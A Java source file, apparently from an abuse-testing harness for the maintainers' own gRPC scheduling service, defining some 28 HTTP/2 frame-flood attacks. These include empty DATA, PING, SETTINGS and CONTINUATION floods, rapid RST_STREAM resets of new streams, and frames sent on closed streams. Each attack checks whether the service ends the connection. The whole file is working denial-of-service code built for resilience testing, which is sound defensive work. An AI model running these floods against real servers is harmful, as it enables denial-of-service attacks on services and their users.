package dev.dueline.system.abuse.attack;

import static dev.dueline.system.abuse.wire.FrameType.CANCEL;
import static dev.dueline.system.abuse.wire.FrameType.CONTINUATION;
import static dev.dueline.system.abuse.wire.FrameType.DATA;
import static dev.dueline.system.abuse.wire.FrameType.END_HEADERS;
import static dev.dueline.system.abuse.wire.FrameType.END_STREAM;
import static dev.dueline.system.abuse.wire.FrameType.HEADERS;
import static dev.dueline.system.abuse.wire.FrameType.NO_FLAGS;
import static dev.dueline.system.abuse.wire.FrameType.PADDED;
import static dev.dueline.system.abuse.wire.FrameType.PING;
import static dev.dueline.system.abuse.wire.FrameType.PRIORITY;
import static dev.dueline.system.abuse.wire.FrameType.RST_STREAM;
import static dev.dueline.system.abuse.wire.FrameType.SETTINGS;
import static dev.dueline.system.abuse.wire.FrameType.UNKNOWN;
import static dev.dueline.system.abuse.wire.FrameType.WINDOW_UPDATE;

import dev.dueline.system.abuse.wire.Frames;
import dev.dueline.system.abuse.wire.HeaderBlock;
import dev.dueline.system.abuse.wire.Paths;
import dev.dueline.system.abuse.wire.RawHttp2;
import dev.dueline.system.abuse.wire.Trait;
import java.io.IOException;
import java.time.Duration;
import java.util.List;
import java.util.function.ObjIntConsumer;

/** Frames that carry nothing, or are of no call any more, as fast as they are taken. */
final class FrameFloods {
  private static final byte[] NOTHING = {};

  /** Of an attacker whose connection the service has ended. */
  private static final String CUT = "connection ";

  /** SETTINGS_MAX_CONCURRENT_STREAMS, 100. */
  private static final byte[] SETTING = {0, 3, 0, 0, 0, 100};

  /** Depends on stream 0, with a weight of 16. */
  private static final byte[] PRIORITIES = {0, 0, 0, 0, 15};

  private static final byte[] FIELD = new HeaderBlock().with("x", "y").toBytes();
  private static final int MAX_FRAME = 16_384;
  private static final int FIRST_STREAM = 1;

  /** For a call to be refused. */
  private static final Duration ANSWER = Duration.ofSeconds(30);

  private FrameFloods() {}

  static List<Attack> all() {
    return List.of(
        onCall("frames: empty DATA", DATA, NO_FLAGS, NOTHING),
        onCall("frames: DATA of padding", DATA, PADDED, new byte[] {3, 0, 0, 0}),
        onCall("frames: WINDOW_UPDATE by 1, stream", WINDOW_UPDATE, NO_FLAGS, Frames.number(1)),
        onConnection("frames: WINDOW_UPDATE by 1", WINDOW_UPDATE, Frames.number(1)),
        onConnection("frames: SETTINGS", SETTINGS, SETTING),
        onConnection("frames: empty SETTINGS", SETTINGS, NOTHING),
        onConnection("frames: PING", PING, new byte[8]),
        onConnection("frames: unknown types", UNKNOWN, NOTHING),
        Attack.of("frames: PRIORITY", FrameFloods::priority),
        Attack.of("frames: empty CONTINUATION", attacker -> continuation(attacker, NOTHING)),
        Attack.of(
            "frames: endless CONTINUATION",
            attacker -> continuation(attacker, new HeaderBlock().with("x", "y").toBytes())),
        Attack.of("frames: RST_STREAM of new calls", attacker -> resets(attacker, "")),
        Attack.of(
            "frames: RST_STREAM, known caller",
            attacker -> resets(attacker, attacker.target().token())),
        onReset("frames: DATA of closed streams", DATA, NO_FLAGS, NOTHING),
        onReset("frames: 300 B of DATA, reset call", DATA, NO_FLAGS, new byte[300]),
        onReset("frames: 16 KiB of DATA, reset call", DATA, NO_FLAGS, new byte[MAX_FRAME]),
        onRefused("frames: 300 B of DATA, refused call", DATA, NO_FLAGS, new byte[300]),
        onRefused("frames: 16 KiB of DATA, refused call", DATA, NO_FLAGS, new byte[MAX_FRAME]),
        onCall("frames: HEADERS, open call", HEADERS, END_HEADERS, FIELD),
        onReset("frames: HEADERS, reset call", HEADERS, END_HEADERS, FIELD),
        onRefused("frames: HEADERS, refused call", HEADERS, END_HEADERS, FIELD),
        twice("frames: HEADERS twice", END_HEADERS),
        twice("frames: HEADERS and trailers", END_HEADERS | END_STREAM),
        Attack.of("frames: calls by trailers, known caller", FrameFloods::callsByTrailers),
        onReset("frames: RST_STREAM, reset call", RST_STREAM, NO_FLAGS, Frames.number(CANCEL)),
        onRefused("frames: RST_STREAM, refused call", RST_STREAM, NO_FLAGS, Frames.number(CANCEL)),
        Attack.of("frames: RST_STREAM, no call", FrameFloods::resetsOfNothing).until(CUT),
        Attack.of("frames: HEADERS that pay for DATA", FrameFloods::paid).until(CUT));
  }

  private static Attack onConnection(String name, int type, byte[] payload) {
    byte[] bytes = Frames.repeated(type, NO_FLAGS, 0, payload);
    return Attack.of(
            name, attacker -> attacker.repeatedly(connection -> flood(attacker, connection, bytes)))
        .until(CUT);
  }

  /** On a call whose message does not come. */
  private static Attack onCall(String name, int type, int flags, byte[] payload) {
    return Attack.of(
            name,
            attacker ->
                attacker.repeatedly(
                    connection -> {
                      String token = attacker.target().token();
                      int stream = connection.begin(HeaderBlock.call(Paths.SCHEDULE, token));
                      flood(attacker, connection, Frames.repeated(type, flags, stream, payload));
                    }))
        .until(CUT);
  }

  private static void flood(Attacker attacker, RawHttp2 connection, byte[] bytes)
      throws IOException {
    while (!attacker.isOver() && connection.ending().isEmpty()) {
      connection.write(bytes);
      attacker.counts().add("64 KiB");
    }
  }

  private static void priority(Attacker attacker) throws InterruptedException {
    onNewStreams(
        attacker, 1_000, (frames, stream) -> frames.add(PRIORITY, NO_FLAGS, stream, PRIORITIES));
  }

  /** Frames on one stream after the other, those of so many at a time. */
  private static void onNewStreams(Attacker attacker, int count, ObjIntConsumer<Frames> add)
      throws InterruptedException {
    attacker.repeatedly(
        connection -> {
          while (!attacker.isOver() && connection.ending().isEmpty()) {
            Frames frames = new Frames();
            for (int i = 0; i < count; i++) {
              add.accept(frames, connection.newStream());
            }
            connection.write(frames.toBytes());
            attacker.counts().add(count + " streams");
          }
        });
  }

  private static void continuation(Attacker attacker, byte[] block) throws InterruptedException {
    attacker.repeatedly(
        connection -> {
          int stream = connection.begin(HeaderBlock.call(Paths.SCHEDULE).toBytes(), NO_FLAGS);
          flood(attacker, connection, Frames.repeated(CONTINUATION, NO_FLAGS, stream, block));
        });
  }

  private static void resets(Attacker attacker, String token) throws InterruptedException {
    byte[] block = HeaderBlock.call(Paths.SCHEDULE, token).toBytes();
    onNewStreams(
        attacker,
        200,
        (frames, stream) ->
            frames
                .add(HEADERS, END_HEADERS, stream, block)
                .add(RST_STREAM, NO_FLAGS, stream, Frames.number(CANCEL)));
  }

  /** On a stream that the attacker has closed. */
  private static Attack onReset(String name, int type, int flags, byte[] payload) {
    return onClosed(
        name,
        Frames.repeated(type, flags, FIRST_STREAM, payload),
        connection -> {
          int stream = connection.begin(HeaderBlock.call(Paths.SCHEDULE));
          connection.send(RST_STREAM, NO_FLAGS, stream, Frames.number(CANCEL));
        });
  }

  /** On a stream that the service has closed. */
  private static Attack onRefused(String name, int type, int flags, byte[] payload) {
    return onClosed(
        name,
        Frames.repeated(type, flags, FIRST_STREAM, payload),
        connection ->
            connection.outcome(connection.begin(HeaderBlock.call(Paths.SCHEDULE)), ANSWER));
  }

  private static Attack onClosed(String name, byte[] bytes, Attacker.Use close) {
    return Attack.of(
            name,
            attacker ->
                attacker.repeatedly(
                    connection -> {
                      close.of(connection);
                      flood(attacker, connection, bytes);
                    },
                    Trait.NEVER_REPLENISHES))
        .until(CUT);
  }

  /** On calls each of which has further headers, so that the service resets it. */
  private static Attack twice(String name, int flags) {
    byte[] block = HeaderBlock.call(Paths.SCHEDULE).toBytes();
    return Attack.of(
            name,
            attacker ->
                onNewStreams(
                    attacker,
                    200,
                    (frames, stream) ->
                        frames
                            .add(HEADERS, END_HEADERS, stream, block)
                            .add(HEADERS, flags, stream, FIELD)))
        .until(CUT);
  }

  /** gRPC takes trailers for another call of the same stream. */
  private static void callsByTrailers(Attacker attacker) throws InterruptedException {
    byte[] block = HeaderBlock.call(Paths.SCHEDULE, attacker.target().token()).toBytes();
    onNewStreams(
        attacker,
        100,
        (frames, stream) ->
            frames
                .add(HEADERS, END_HEADERS, stream, block)
                .add(HEADERS, END_HEADERS | END_STREAM, stream, block));
  }

  private static void resetsOfNothing(Attacker attacker) throws InterruptedException {
    onNewStreams(
        attacker,
        1_000,
        (frames, stream) -> frames.add(RST_STREAM, NO_FLAGS, stream, Frames.number(CANCEL)));
  }

  /** Headers of a stream that is closed count for no call. */
  private static void paid(Attacker attacker) throws InterruptedException {
    attacker.repeatedly(
        connection -> {
          int stream = connection.begin(HeaderBlock.call(Paths.SCHEDULE));
          connection.send(RST_STREAM, NO_FLAGS, stream, Frames.number(CANCEL));
          Frames frames = new Frames();
          for (int i = 0; i < 500; i++) {
            frames.add(HEADERS, END_HEADERS, stream, FIELD);
            frames.add(DATA, NO_FLAGS, stream).add(DATA, NO_FLAGS, stream);
            frames.add(RST_STREAM, NO_FLAGS, stream, Frames.number(CANCEL));
          }
          flood(attacker, connection, frames.toBytes());
        });
  }
}
